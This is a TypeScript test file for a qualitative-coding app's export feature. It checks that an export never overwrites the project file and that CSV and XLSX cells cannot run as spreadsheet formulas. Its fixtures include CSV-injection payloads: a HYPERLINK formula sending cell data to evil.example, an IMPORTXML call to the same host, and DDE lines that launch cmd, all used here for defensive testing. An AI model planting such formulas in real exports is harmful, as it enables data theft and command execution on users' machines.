/**
 * Exports never destroy a project and never replace a file unasked: `realist export P --out P`
 * used to overwrite the project with a CSV. And no exported cell runs as a spreadsheet formula
 * (CSV injection): a quote or a code name beginning with `=`, `+`, `-` or `@` is written with a
 * leading `'`, as OWASP advises; XLSX cells stay plain strings.
 */
import { createHash, randomUUID } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { strFromU8, unzipSync } from 'fflate';
import { afterEach, describe, expect, it } from 'vitest';
import { main } from '../../../electron/cli/main';
import { CodingService } from '../../../electron/services/coding/coding-service';
import { writeCodingExport } from '../../../electron/services/exports/coding-exports';
import { writeExportFile } from '../../../electron/services/exports/safe-write';
import { ProjectStore } from '../../../electron/services/store/project-store';
import { fromCodebookCsv } from '../../../shared/coding/codebook-csv';
import { asCoder, setupWrites } from '../../helpers/coder';
import { createCodingProject } from '../../helpers/coding-project';
import { useTempDir } from '../../helpers/temp';

const tempDir = useTempDir();
const open: ProjectStore[] = [];
afterEach(() => {
  for (const s of open.splice(0)) s.close();
});

const sha256 = (file: string) => createHash('sha256').update(fs.readFileSync(file)).digest('hex');

async function run(args: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const code = await main(args, { out: (t) => (out += t), err: (t) => (err += t) });
  return { code, out, err };
}

/** A closed coding project on disk: its path and folder. */
function closedProject(): { file: string; dir: string } {
  const dir = tempDir();
  const p = createCodingProject(dir);
  p.store.close();
  return { file: p.store.path, dir };
}

function openProject(): { svc: CodingService; store: ProjectStore; dir: string; excerpts: Record<string, string> } {
  const dir = tempDir();
  const p = createCodingProject(dir);
  open.push(p.store);
  return { svc: new CodingService(p.store), store: p.store, dir, excerpts: p.excerpts };
}

describe('an export never writes over a project', () => {
  it('realist export P --out P refuses and leaves the project whole', async () => {
    const { file } = closedProject();
    const before = sha256(file);
    const r = await run(['export', file, '--what', 'cmocs', '--format', 'csv', '--out', file, '--force']);
    expect(r.code).toBe(1);
    expect(r.err).toContain('never writes over a project');
    expect(sha256(file)).toBe(before);
    const store = ProjectStore.open(file);
    expect(store.counts().excerpts).toBe(5);
    store.close();
  });

  it('refuses the open project through a symlink, a hard link, its -wal and -shm, and under another name', async () => {
    const { svc, store, dir } = openProject();
    const link = path.join(dir, 'innocent.csv');
    fs.symlinkSync(store.path, link);
    await expect(writeCodingExport(svc, 'cmocs', 'csv', link, 'test', { overwrite: true })).rejects.toThrow(/never writes over/);
    const hard = path.join(dir, 'hard.csv');
    fs.linkSync(store.path, hard);
    await expect(writeCodingExport(svc, 'cmocs', 'csv', hard, 'test', { overwrite: true })).rejects.toThrow(/never writes over/);
    for (const suffix of ['-wal', '-shm']) {
      await expect(writeCodingExport(svc, 'codebook', 'csv', store.path + suffix, 'test', { overwrite: true })).rejects.toMatchObject({ code: 'VALIDATION' });
    }
    // Still a working project: a write lands and reads back.
    svc.createCode({ name: 'Still here', kind: 'context' });
    expect(svc.listCodes().some((c) => c.name === 'Still here')).toBe(true);

    // Another project, renamed to look like a spreadsheet, is recognised by its content.
    const other = closedProject();
    const disguised = path.join(dir, 'notes.csv');
    fs.copyFileSync(other.file, disguised);
    const before = sha256(disguised);
    await expect(writeCodingExport(svc, 'cmocs', 'csv', disguised, 'test', { overwrite: true })).rejects.toThrow(/is a Realist Workbench project/);
    expect(sha256(disguised)).toBe(before);
    // And any *.realist name, existing or not.
    await expect(writeCodingExport(svc, 'cmocs', 'json', path.join(dir, 'new.realist'), 'test')).rejects.toMatchObject({ code: 'VALIDATION' });
    expect(fs.existsSync(path.join(dir, 'new.realist'))).toBe(false);
  });

  it('replaces an existing file only when asked (--force), and never a folder', async () => {
    const { file, dir } = closedProject();
    const out = path.join(dir, 'cmocs.csv');
    fs.writeFileSync(out, 'my own notes');
    const refused = await run(['export', file, '--what', 'cmocs', '--format', 'csv', '--out', out]);
    expect(refused.code).toBe(1);
    expect(refused.err).toContain('already exists');
    expect(refused.err).toContain('[FILE_EXISTS]');
    expect(fs.readFileSync(out, 'utf8')).toBe('my own notes');
    const forced = await run(['export', file, '--what', 'cmocs', '--format', 'csv', '--out', out, '--force']);
    expect(forced.code).toBe(0);
    expect(fs.readFileSync(out, 'utf8').startsWith('\uFEFFCMOC,')).toBe(true);

    const folder = path.join(dir, 'a-folder');
    fs.mkdirSync(folder);
    expect(() => writeExportFile(folder, 'x', { overwrite: true })).toThrow(/is a folder/);
    // No temporary file is left behind by the refusals.
    expect(fs.readdirSync(dir).filter((f) => f.endsWith('.part'))).toEqual([]);
  });

  it('export-annotations refuses the project too', async () => {
    const { file } = closedProject();
    const before = sha256(file);
    const r = await run(['export-annotations', file, '--out', file, '--force']);
    expect(r.code).toBe(1);
    expect(sha256(file)).toBe(before);
  });
});

describe('no exported cell is a formula', () => {
  const HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1'];

  it('prefixes risky CSV cells with a quote in the CMOC, codebook and excerpt exports, and reads the codebook back as written', async () => {
    const { svc, store, dir, excerpts } = openProject();
    const codes = HOSTILE.map((name, i) => svc.createCode({ name: `${name} ${i}`, kind: 'context' }));
    svc.createCmoc({ label: '=1+1', statement: HOSTILE[0]!, codes: codes.map((c) => ({ codeId: c.id, role: 'context' })) });
    asCoder(store, '@Reviewer');
    svc.addCoding(excerpts.trust!, codes[1]!.id);
    // A quote from a document that begins with a formula sign.
    setupWrites(store, () => store.db.prepare('UPDATE excerpts SET quote = ? WHERE id = ?').run('=IMPORTXML("http://evil.example")', excerpts.reach!));

    const cmocCsv = await writeCodingExport(svc, 'cmocs', 'csv', path.join(dir, 'cmocs.csv'), 'test');
    const cmocRows = Papa.parse<string[]>(fs.readFileSync(cmocCsv.path, 'utf8').replace(/^\uFEFF/, '')).data;
    expect(cmocRows[1]![0]).toBe("'=1+1");
    expect(cmocRows[1]![1]).toBe(`'${HOSTILE[0]}`);
    expect(cmocRows[1]![2]!.startsWith("'")).toBe(true); // the contexts, all hostile names

    const excerptCsv = await writeCodingExport(svc, 'excerpts', 'csv', path.join(dir, 'excerpts.csv'), 'test');
    const excerptRows = Papa.parse<string[]>(fs.readFileSync(excerptCsv.path, 'utf8').replace(/^\uFEFF/, '')).data;
    const quoteCol = excerptRows[0]!.indexOf('Quote');
    const codesCol = excerptRows[0]!.indexOf('Codes');
    expect(excerptRows.map((r) => r[quoteCol])).toContain(`'=IMPORTXML("http://evil.example")`);
    expect(excerptRows.map((r) => r[codesCol])).toContain(`'@Reviewer: ${HOSTILE[1]} 1`);
    // Every text cell of both files: none begins with a formula sign.
    for (const row of [...cmocRows, ...excerptRows]) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Numbers stay numbers (page, start, end are not quoted).
    expect(excerptRows[1]![excerptRows[0]!.indexOf('Page')]).toBe('1');

    const codebook = await writeCodingExport(svc, 'codebook', 'csv', path.join(dir, 'codebook.csv'), 'test');
    const text = fs.readFileSync(codebook.path, 'utf8');
    expect(text).toContain(`"'+cmd|"" /C calc""!A0 1"`);
    const back = fromCodebookCsv(text, { defaultKind: 'other', knownKinds: svc.listKinds().map((k) => k.id), newId: randomUUID });
    expect(back.codes.map((c) => c.name).filter((n) => /^[=+\-@\t\r]/.test(n)).sort()).toEqual(HOSTILE.map((h, i) => `${h} ${i}`.replace(/\s+/g, ' ').trim()).sort());
  });

  it('writes XLSX cells as strings, never as formulas', async () => {
    const { svc, dir } = openProject();
    const c = svc.createCode({ name: '+cmd|" /C calc"!A0', kind: 'context' });
    svc.createCmoc({ label: '=1+1', statement: HOSTILE[0]!, codes: [{ codeId: c.id, role: 'context' }] });
    const out = await writeCodingExport(svc, 'cmocs', 'xlsx', path.join(dir, 'cmocs.xlsx'), 'test');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out.path);
    const row = wb.getWorksheet('CMOCs')!.getRow(2);
    expect(row.getCell(1).value).toBe('=1+1');
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
    const sheetXml = strFromU8(unzipSync(new Uint8Array(fs.readFileSync(out.path)))['xl/worksheets/sheet1.xml']!);
    expect(sheetXml).not.toContain('<f>');
  });
});
